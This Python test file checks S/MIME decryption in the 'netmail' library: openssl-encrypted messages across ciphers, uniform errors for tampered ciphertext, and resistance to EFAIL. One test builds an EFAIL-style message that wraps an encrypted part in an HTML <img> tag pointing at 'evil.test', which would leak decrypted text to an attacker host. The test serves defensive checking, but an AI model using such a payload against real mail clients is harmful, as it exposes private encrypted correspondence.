"""Decrypting S/MIME: what openssl encrypts, and what an attacker may try."""

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import netmail
from netmail.crypto import smime
from netmail.crypto.errors import DecryptionError, KeyUnusable
from support.crypto_certificates import ANN, BOB, CAROL, person
from support.openssl import openssl

HEAD = b"From: ann@example.test\r\nTo: bob@example.test\r\nSubject: outer\r\n"
PART = b"Content-Type: text/plain\r\n\r\n" + b"Hello, this is a secret text.\r\n" * 20
REFUSED = "the message cannot be decrypted: it was changed, or is for another key"


def by_openssl(folder, who, *options):
    """A message that openssl has encrypted."""
    made, octets = openssl(
        folder, "-encrypt", "-recip", "{cert}", *options, octets=PART, cert=who.pem
    )
    assert made, octets
    return HEAD + octets


def opened(octets, who=None):
    """What a message has inside."""
    who = who or person(BOB)
    return smime.decrypt(octets, who.cert, who.key)


@pytest.mark.parametrize(
    ("options", "algorithm", "authenticated"),
    [
        (["-aes128"], "aes128_cbc", False),
        (["-aes192"], "aes192_cbc", False),
        (["-aes256"], "aes256_cbc", False),
        (["-des3"], "tripledes_3key", False),
        (["-aes-256-gcm"], "aes256_gcm", True),
        (["-aes256", "-keyopt", "rsa_padding_mode:oaep"], "aes256_cbc", False),
        (
            ["-aes256", "-keyopt", "rsa_padding_mode:oaep", "-keyopt", "rsa_oaep_md:sha256"],
            "aes256_cbc",
            False,
        ),
        (["-aes256", "-keyid"], "aes256_cbc", False),
        (["-aes256", "-stream"], "aes256_cbc", False),
        (["-aes-128-gcm", "-stream"], "aes128_gcm", True),
    ],
    ids=lambda value: " ".join(value) if isinstance(value, list) else "",
)
def test_openssl_encrypts(options, algorithm, authenticated, tmp_path):
    """Every cipher, OAEP, and BER, as other programs write them."""
    found = opened(by_openssl(tmp_path, person(BOB), *options))

    assert found.content == PART
    assert found.algorithm == algorithm
    assert found.authenticated is authenticated
    assert found.covers_all
    assert found.outer.subject == "outer"
    assert found.mail.subject == ""


@pytest.mark.parametrize(
    "options",
    [
        ["-aes256"],
        ["-aes128", "-keyopt", "ecdh_kdf_md:sha256"],
        ["-aes256", "-keyopt", "ecdh_kdf_md:sha512"],
        ["-aes-256-gcm", "-stream"],
        ["-aes256", "-keyid"],
    ],
    ids=" ".join,
)
def test_elliptic_curve_of_openssl(options, tmp_path):
    """Keys are agreed on with each digest that other programs use."""
    bob = person(BOB, "ec")

    assert opened(by_openssl(tmp_path, bob, *options), bob).content == PART


def encrypted(cipher="aes256-cbc", who=None):
    """A message, its octets, and where its structure begins."""
    message = netmail.message(ANN, BOB, "x").text("Hello, this is a secret text.\n" * 20)
    [sealed] = smime.encrypt(message, [(who or person(BOB)).cert], cipher=cipher)
    head, _, body = sealed.as_bytes().partition(b"\r\n\r\n")
    return head + b"\r\n\r\n", base64.b64decode(body)


def again(head, structure):
    """A message of a changed structure."""
    return head + base64.encodebytes(structure)


@pytest.mark.parametrize("cipher", ["aes256-cbc", "aes256-gcm"])
def test_one_error_for_every_change(cipher):
    """A changed padding, a changed key and a changed first block give the same error."""
    head, structure = encrypted(cipher)
    places = [-1, -2, structure.index(b"\x04\x82\x01\x00") + 50]
    if cipher == "aes256-cbc":
        # The octets after the cipher's identifier and the head of its vector; and the last block
        # but one, which changes the padding.
        places += [structure.index(bytes.fromhex("60864801650304012a")) + 11, -17]
    errors = set()
    for place in places:
        changed = bytearray(structure)
        changed[place] ^= 0x80
        with pytest.raises(DecryptionError) as caught:
            opened(again(head, bytes(changed)))
        errors.add(str(caught.value))

    assert errors == {REFUSED}


def test_gcm_notices_every_change():
    """With AES-GCM one bit anywhere in the text is noticed."""
    head, structure = encrypted("aes256-gcm")
    for place in range(len(structure) - 700, len(structure), 50):
        changed = bytearray(structure)
        changed[place] ^= 1
        with pytest.raises(DecryptionError):
            opened(again(head, bytes(changed)))


def test_change_in_the_middle_of_cbc():
    """AES-CBC cannot notice a change in the middle of the text; the result says so."""
    head, structure = encrypted()
    changed = bytearray(structure)
    changed[-200] ^= 1

    found = opened(again(head, bytes(changed)))

    assert not found.authenticated
    assert found.content != opened(again(head, structure)).content


HEADER, STRUCTURE = encrypted()


@settings(max_examples=60)
@given(st.integers(0, len(STRUCTURE) - 1), st.integers(1, 255))
def test_any_change(place, change):
    """No change of the structure raises anything but the documented error."""
    changed = bytearray(STRUCTURE)
    changed[place] ^= change
    try:
        found = opened(again(HEADER, bytes(changed)))
    except DecryptionError:
        return
    assert not found.authenticated


def test_part_of_the_message():
    """An encrypted part within a message is opened alone, and marked (EFAIL)."""
    head, structure = encrypted()
    start = head.index(b"Content-Type")
    whole = HEAD + b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n'
    whole += b'Content-Type: text/html\r\n\r\n<img src="http://evil.test/\r\n--b\r\n'
    whole += again(head[start:], structure) + b"\r\n--b\r\n"
    whole += b'Content-Type: text/html\r\n\r\n">\r\n--b--\r\n'

    found = opened(whole)

    assert not found.covers_all
    assert netmail.DefectKind.ERRANT_ENCRYPTION in {each.kind for each in found.outer.defects}
    assert b"evil" not in found.content
    assert found.mail.html == ""


@pytest.mark.parametrize("said", ["signed-data", "compressed-data", "certs-only", "x"])
def test_type_that_lies(said):
    """What the structure says counts, whatever the header says."""
    lying = HEADER.replace(b"smime-type=enveloped-data", b"smime-type=" + said.encode())

    assert b"secret text" in opened(again(lying, STRUCTURE)).content


def test_signed_is_not_encrypted():
    """A message that is signed only is not encrypted, whatever its header says."""
    message = netmail.message(ANN, BOB, "x").text("Hello")
    octets = smime.sign(message, person().cert, person().key, opaque=True).as_bytes()
    for said in (b"enveloped-data", b"signed-data"):
        with pytest.raises(DecryptionError, match="not encrypted"):
            opened(octets.replace(b"smime-type=signed-data", b"smime-type=" + said))


def test_wrong_reader():
    """A message for other certificates says so."""
    with pytest.raises(DecryptionError, match="other certificates"):
        opened(again(HEADER, STRUCTURE), person(CAROL))


def test_key_of_another():
    """Certificate and key must belong together."""
    with pytest.raises(KeyUnusable, match="another key"):
        smime.decrypt(again(HEADER, STRUCTURE), person(BOB).cert, person(CAROL).key)


@pytest.mark.parametrize(
    ("octets", "reason"),
    [
        (HEAD + b"\r\nHello", "not encrypted"),
        (again(HEADER, b"nothing"), "structure is broken"),
        (again(HEADER, STRUCTURE[:200]), "structure is broken"),
    ],
)
def test_unreadable(octets, reason):
    """What is not encrypted, or broken, is refused by its reason."""
    with pytest.raises(DecryptionError, match=reason):
        opened(octets)


def test_old_header_protection():
    """The older form of protected headers is read."""
    inner = b'Content-Type: text/plain; protected-headers="v1"\r\nSubject: real\r\n\r\nHello\r\n'
    from netmail.crypto.entity import base64_lines
    from netmail.crypto.smime.encrypting import enveloped

    _, octets = enveloped(inner, [person(BOB).cert], "aes256_cbc", oaep=False)
    found = opened(HEADER + base64_lines(octets))

    assert found.subject == "real"
